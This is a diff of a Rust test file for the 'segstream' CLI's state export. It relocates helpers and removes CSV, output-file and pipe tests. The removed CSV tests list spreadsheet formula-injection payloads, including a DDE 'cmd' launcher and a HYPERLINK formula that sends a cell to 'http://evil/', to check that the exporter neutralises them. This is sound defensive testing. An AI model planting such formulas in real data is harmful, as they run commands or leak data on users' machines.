@@ -1,14 +1,9 @@
-//! `state export` and `state get`: as of when they are, what they say then, and how a CSV reads back.
+//! As of when an export is: the clocks, the wall clock, the last evaluation, or an instant.
 
 use std::collections::BTreeMap;
-use std::io::BufRead;
-use std::io::BufReader;
-use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 use std::path::PathBuf;
 use std::process::Child;
-use std::process::Command;
-use std::process::Output;
 use std::process::Stdio;
 use std::time::Duration;
 use std::time::Instant;
@@ -20,6 +15,16 @@ use segstream::pipeline::partition::clock::WallClock;
 use serde_json::Value;
 use serde_json::json;
 
+use super::done;
+use super::errors;
+use super::export;
+use super::one_customer;
+use super::order;
+use super::parsed;
+use super::profile;
+use super::replay;
+use super::run;
+use super::segstream;
 use crate::support::Chance;
 use crate::support::at;
 use crate::time_oracle;
@@ -28,85 +33,6 @@ use crate::time_oracle::Delivery;
 const PATIENCE: Duration = Duration::from_secs(60);
 const ENGINES: [&str; 2] = ["store.engine=fjall", "store.engine=sled"];
 const BERLIN: &str = "time.business_zone=Europe/Berlin";
-
-fn segstream(root: &Path, arguments: &[&str]) -> Command {
-    let mut command = Command::new(env!("CARGO_BIN_EXE_segstream"));
-    let store = root.join("store");
-    command
-        .args(arguments)
-        .args(["--set", &format!("store.directory={}", store.display())])
-        .args(["--set", "log.filter=warn"])
-        .stdin(Stdio::null());
-    command
-}
-
-fn run(root: &Path, arguments: &[&str]) -> Output {
-    segstream(root, arguments).output().unwrap()
-}
-
-fn errors(output: &Output) -> String {
-    String::from_utf8_lossy(&output.stderr).into_owned()
-}
-
-fn done(root: &Path, arguments: &[&str]) -> String {
-    let output = run(root, arguments);
-    assert!(
-        output.status.success(),
-        "{arguments:?}: {}",
-        errors(&output)
-    );
-    String::from_utf8(output.stdout).unwrap()
-}
-
-/// Replays events, each recorded when it occurred.
-fn replay(root: &Path, events: &[Value], settings: &[&str]) {
-    let file = root.join("events.jsonl");
-    let lines: Vec<String> = events.iter().map(Value::to_string).collect();
-    std::fs::write(&file, lines.join("\n")).unwrap();
-    let input = file.to_str().unwrap();
-    let mut arguments = vec!["replay", "--input", input, "--format", "jsonl"];
-    arguments.extend(settings);
-    done(root, &arguments);
-}
-
-fn parsed(lines: &str) -> Vec<Value> {
-    let lines = lines.lines();
-    lines
-        .map(|line| serde_json::from_str(line).unwrap())
-        .collect()
-}
-
-/// The customers as of an instant.
-fn export(root: &Path, as_of: &str, settings: &[&str]) -> Vec<Value> {
-    let mut arguments = vec!["state", "export", "--as-of", as_of];
-    arguments.extend(settings);
-    parsed(&done(root, &arguments))
-}
-
-fn order(number: u64, customer_id: &str, occurred_at: &str, revenue: &str) -> Value {
-    json!({
-        "event_id": format!("e-{number}"), "type": "order.completed", "occurred_at": occurred_at,
-        "customer_id": customer_id, "order_id": format!("o-{number}"), "currency": "USD", "revenue": revenue,
-        "channel": if number.is_multiple_of(2) { "store" } else { "web" },
-    })
-}
-
-fn profile(number: u64, customer_id: &str, occurred_at: &str) -> Value {
-    json!({
-        "event_id": format!("p-{number}"), "type": "customer.updated", "occurred_at": occurred_at,
-        "customer_id": customer_id,
-        "profile": {"birth_year": 1979, "income": "58138", "joined_at": "2024-02-27T00:00:00Z"},
-    })
-}
-
-/// One customer with two orders; the last evaluation is the last order.
-fn one_customer() -> Vec<Value> {
-    vec![
-        profile(1, "c-1", "2024-06-01T08:00:00Z"),
-        order(2, "c-1", "2024-06-15T09:30:00Z", "829.50"),
-        order(3, "c-1", "2026-05-20T09:30:00Z", "264"),
-    ]
-}
 
 fn deliveries(events: &[Value]) -> Vec<Delivery> {
     let mut all: Vec<Delivery> = events
@@ -176,8 +102,6 @@ fn text(instant_ms: i64) -> String {
         .unwrap()
         .to_string()
 }
-
-// As of when.
 
 /// Windows by the calendar: 2024-06-15 and 730 days are 2026-06-15, 2026-05-20 and 730 days are 2028-05-19; these days
 /// and the year 2027 begin in Berlin at 22:00Z and 23:00Z of the day before. 1093.50 = 829.50 + 264.
@@ -662,328 +586,4 @@ fn what_is_no_instant_is_named_with_what_is_allowed() {
     let output = run(root.path(), &["state", "export", "--csv-raw"]);
     assert_eq!(output.status.code(), Some(2));
     assert!(errors(&output).contains("--csv-raw is for --format csv"));
-}
-
-// CSV.
-
-/// Ids and categories that have a meaning in a spreadsheet, in CSV, or to a reader that guesses.
-const TEXTS: [&str; 26] = [
-    "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil/?\"&A1)",
-    "-5",
-    "-1.5e3",
-    "+49 30 1234",
-    "@SUM(1+1)",
-    " =1+1",
-    "'=1+1",
-    "''-1",
-    "'t Hooft",
-    "＝1+1",
-    "－5",
-    "a,b",
-    "a;b",
-    "a\"b",
-    "\"",
-    "0042",
-    "1e5",
-    "NA",
-    "None",
-    "nan",
-    "true",
-    "2026-01-01",
-    "Zoë 😀",
-    "{\"a\": 1}",
-    " spaced ",
-];
-
-/// A customer for each text, who buys in a category of that name; every fourth one has no purchase, only a profile.
-fn with_texts() -> Vec<Value> {
-    let mut events = Vec::new();
-    for (number, id) in (1..).zip(TEXTS) {
-        if number % 4 == 0 {
-            events.push(profile(number, id, "2026-03-01T00:00:00Z"));
-            continue;
-        }
-        let mut event = order(number, id, "2026-03-01T09:30:00Z", "1234567.89");
-        event["products"] = json!([
-            {"category": id, "price": "0.10"}, {"category": "tab\tline\nquote\"", "price": "5"},
-        ]);
-        events.push(event);
-    }
-    events
-}
-
-/// The value of a cell, with the apostrophe off where the guard has put it: docs/COMMAND_LINE.md, CSV.
-fn unguarded(cell: &str) -> &str {
-    let Some(rest) = cell.strip_prefix('\'') else {
-        return cell;
-    };
-    let behind = rest.trim_start_matches('\'').trim_start();
-    let begins = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
-    if behind.starts_with(begins) {
-        rest
-    } else {
-        cell
-    }
-}
-
-/// The value of a column as JSON Lines have it.
-fn cell_of(line: &Value, column: &str) -> String {
-    let value = match column.split_once('.') {
-        Some((object, member)) => line.get(object).and_then(|object| object.get(member)),
-        None => line.get(column),
-    };
-    match value {
-        None => String::new(),
-        Some(Value::String(text)) => text.clone(),
-        Some(other) => other.to_string(),
-    }
-}
-
-#[test]
-fn a_csv_has_the_same_columns_whatever_the_customers_have_and_says_what_json_lines_say() {
-    let root = tempfile::tempdir().unwrap();
-    let empty = tempfile::tempdir().unwrap();
-    replay(root.path(), &with_texts(), &[]);
-    replay(
-        empty.path(),
-        &[profile(1, "c-1", "2026-03-01T00:00:00Z")],
-        &[],
-    );
-    let as_of = ["state", "export", "--as-of", "2026-12-24T18:00:00Z"];
-    let lines = parsed(&done(root.path(), &as_of));
-    let csv = [&as_of[..], &["--format", "csv"]].concat();
-    let header = done(empty.path(), &csv);
-    let header = header.lines().next().unwrap();
-    for is_raw in [false, true] {
-        let extra: &[&str] = if is_raw { &["--csv-raw"] } else { &[] };
-        let written = done(root.path(), &[&csv, extra].concat());
-        assert_eq!(written.lines().next(), Some(header));
-        assert!(!written.starts_with('\u{feff}'));
-        let mut reader = csv::Reader::from_reader(written.as_bytes());
-        let columns: Vec<String> = reader
-            .headers()
-            .unwrap()
-            .iter()
-            .map(str::to_owned)
-            .collect();
-        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
-        assert_eq!(records.len(), lines.len());
-        let mut guarded = 0;
-        for (record, line) in records.iter().zip(&lines) {
-            for (column, cell) in columns.iter().zip(record) {
-                let read = if is_raw { cell } else { unguarded(cell) };
-                guarded += u64::from(read != cell);
-                assert_eq!(read, cell_of(line, column), "{column}");
-                let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
-                assert!(is_raw || !begins, "{column}: {cell}");
-            }
-        }
-        // The texts above that begin with one of the eight characters, after apostrophes and spaces.
-        assert_eq!(guarded, if is_raw { 0 } else { 11 });
-    }
-}
-
-/// Every field of the page has a column: its own name, or names that begin with it.
-#[test]
-fn the_columns_of_a_csv_are_the_fields_of_an_export_in_their_order() {
-    let root = tempfile::tempdir().unwrap();
-    replay(root.path(), &one_customer(), &[]);
-    let written = done(root.path(), &["state", "export", "--format", "csv"]);
-    let expected = "customer_id,segment_id,model_version,sequence,orders,purchase_days,web_purchases,store_purchases,\
-        catalog_purchases,deal_purchases,total_spending,currency,first_purchase_at,last_purchase_at,evaluated_at,as_of,\
-        spend_by_category,birth_year,income,joined_at,\"features.age\",\"features.income\",\"features.total_spending\",\
-        \"features.web_purchases\",\"features.store_purchases\",\"features.recency_days\",confidence,next_change_at,\
-        churn_risk.score,churn_risk.band,churn_risk.method";
-    assert_eq!(written.lines().next(), Some(expected));
-    let line = done(root.path(), &["state", "export"]);
-    let line: Value = serde_json::from_str(&line).unwrap();
-    for field in line.as_object().unwrap().keys() {
-        let begins = format!("{field}.");
-        let mut columns = expected.split(',').map(|column| column.trim_matches('"'));
-        assert!(
-            columns.any(|column| column == field || column.starts_with(&begins)),
-            "{field}"
-        );
-    }
-}
-
-/// An interpreter that has pandas and DuckDB, or the reason why the test is skipped.
-fn python() -> Option<String> {
-    let given = std::env::var("SEGSTREAM_TEST_PYTHON");
-    let interpreter = given.unwrap_or_else(|_| "python3".to_owned());
-    let mut check = Command::new(&interpreter);
-    check.args(["-c", "import pandas, duckdb"]);
-    let output = check.output();
-    if output.as_ref().is_ok_and(|output| output.status.success()) {
-        return Some(interpreter);
-    }
-    let is_required = std::env::var("SEGSTREAM_REQUIRE_PYTHON").is_ok_and(|value| value == "1");
-    assert!(!is_required, "{interpreter}: {output:?}");
-    eprintln!("skipped: {interpreter} has no pandas and duckdb (set SEGSTREAM_TEST_PYTHON)");
-    None
-}
-
-#[test]
-fn pandas_and_duckdb_read_a_csv_as_json_lines_say() {
-    let Some(python) = python() else { return };
-    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/export/read_back.py");
-    let root = tempfile::tempdir().unwrap();
-    replay(root.path(), &with_texts(), &[]);
-    let shop = tempfile::tempdir().unwrap();
-    let events = shop.path().join("events.jsonl");
-    let events = events.to_str().unwrap();
-    done_plain(&[
-        "simulate",
-        "--customers",
-        "800",
-        "--days",
-        "120",
-        "--out",
-        events,
-    ]);
-    done(
-        shop.path(),
-        &["replay", "--input", events, "--format", "jsonl"],
-    );
-    for (folder, extra) in [
-        (root.path(), &[][..]),
-        (root.path(), &["--csv-raw"]),
-        (shop.path(), &[]),
-    ] {
-        let (lines, csv) = (folder.join("lines.jsonl"), folder.join("lines.csv"));
-        let to = |path: &Path, format: &str| {
-            let mut arguments = vec!["state", "export", "--as-of", "2026-12-24T18:00:00Z"];
-            arguments.extend(["--format", format, "--out", path.to_str().unwrap()]);
-            if format == "csv" {
-                arguments.extend(extra);
-            }
-            done(folder, &arguments)
-        };
-        assert_eq!(to(&lines, "jsonl") + &to(&csv, "csv"), "");
-        let mut read = Command::new(&python);
-        read.arg(&script).arg(&csv).arg(&lines).args(extra);
-        let output = read.output().unwrap();
-        assert!(output.status.success(), "{extra:?}: {}", errors(&output));
-    }
-}
-
-/// A command that reads no state.
-fn done_plain(arguments: &[&str]) {
-    let mut command = Command::new(env!("CARGO_BIN_EXE_segstream"));
-    let output = command.args(arguments).output().unwrap();
-    assert!(output.status.success(), "{}", errors(&output));
-}
-
-// Where it goes.
-
-#[test]
-fn a_file_is_there_whole_or_not_at_all_and_for_its_owner_only() {
-    let root = tempfile::tempdir().unwrap();
-    replay(root.path(), &one_customer(), &[]);
-    let expected = done(root.path(), &["state", "export"]);
-    let folder = root.path().join("out");
-    std::fs::create_dir(&folder).unwrap();
-    let (file, link) = (folder.join("a.jsonl"), folder.join("link"));
-    let export_to = |path: &Path| {
-        run(
-            root.path(),
-            &["state", "export", "--out", path.to_str().unwrap()],
-        )
-    };
-    for is_there in [false, true] {
-        if is_there {
-            std::fs::write(&file, "a longer text than an export. ".repeat(1000)).unwrap();
-            std::fs::set_permissions(&file, PermissionsExt::from_mode(0o644)).unwrap();
-        }
-        let output = export_to(&file);
-        assert!(output.status.success() && output.stdout.is_empty());
-        assert_eq!(std::fs::read_to_string(&file).unwrap(), expected);
-        let mode = file.metadata().unwrap().permissions().mode();
-        assert_eq!(mode & 0o777, 0o600);
-    }
-    std::os::unix::fs::symlink(&file, &link).unwrap();
-    std::fs::write(&file, "old").unwrap();
-    assert!(export_to(&link).status.success());
-    assert!(link.is_symlink());
-    assert_eq!(std::fs::read_to_string(&file).unwrap(), expected);
-    // A relative path, a device, and standard output.
-    let mut here = segstream(root.path(), &["state", "export", "--out", "here.jsonl"]);
-    assert!(here.current_dir(&folder).status().unwrap().success());
-    assert_eq!(
-        std::fs::read_to_string(folder.join("here.jsonl")).unwrap(),
-        expected
-    );
-    assert!(export_to(Path::new("/dev/null")).status.success());
-    assert!(!Path::new("/dev/null").is_file());
-    assert_eq!(
-        done(root.path(), &["state", "export", "--out", "-"]),
-        expected
-    );
-    for (path, code, said) in [
-        (folder.clone(), 2, "is a directory"),
-        (folder.join("no/such/a.jsonl"), 1, "cannot write --out"),
-    ] {
-        let output = export_to(&path);
-        let text = errors(&output);
-        assert_eq!(output.status.code(), Some(code), "{text}");
-        assert!(
-            text.contains(said) && text.contains(path.to_str().unwrap()),
-            "{text}"
-        );
-    }
-    let mut names: Vec<String> = std::fs::read_dir(&folder)
-        .unwrap()
-        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
-        .collect();
-    names.sort();
-    assert_eq!(names, ["a.jsonl", "here.jsonl", "link"]);
-}
-
-/// 300 customers are more than a pipe holds.
-#[test]
-fn a_reader_that_closes_the_output_early_is_no_error() {
-    let root = tempfile::tempdir().unwrap();
-    let events: Vec<Value> = (0..300)
-        .map(|number| {
-            order(
-                number,
-                &format!("c-{number:03}"),
-                "2026-03-01T09:30:00Z",
-                "20",
-            )
-        })
-        .collect();
-    replay(root.path(), &events, &[]);
-    for format in ["jsonl", "csv"] {
-        let mut command = segstream(root.path(), &["state", "export", "--format", format]);
-        command.stdout(Stdio::piped()).stderr(Stdio::piped());
-        let mut child = command.spawn().unwrap();
-        let mut line = String::new();
-        let mut reader = BufReader::with_capacity(64, child.stdout.take().unwrap());
-        reader.read_line(&mut line).unwrap();
-        drop(reader);
-        let output = child.wait_with_output().unwrap();
-        assert_eq!(output.status.code(), Some(0), "{}", errors(&output));
-        assert_eq!(errors(&output), "", "{format}");
-    }
-    // A disk that is full is one.
-    for arguments in [
-        &["state", "export"][..],
-        &["state", "export", "--out", "/dev/full"],
-    ] {
-        let mut command = segstream(root.path(), arguments);
-        let full = std::fs::OpenOptions::new()
-            .write(true)
-            .open("/dev/full")
-            .unwrap();
-        let output = command.stdout(full).output().unwrap();
-        let code = output.status.code();
-        assert!(code == Some(1) || code == Some(4), "{}", errors(&output));
-        assert!(
-            errors(&output).contains("No space left"),
-            "{}",
-            errors(&output)
-        );
-    }
 }
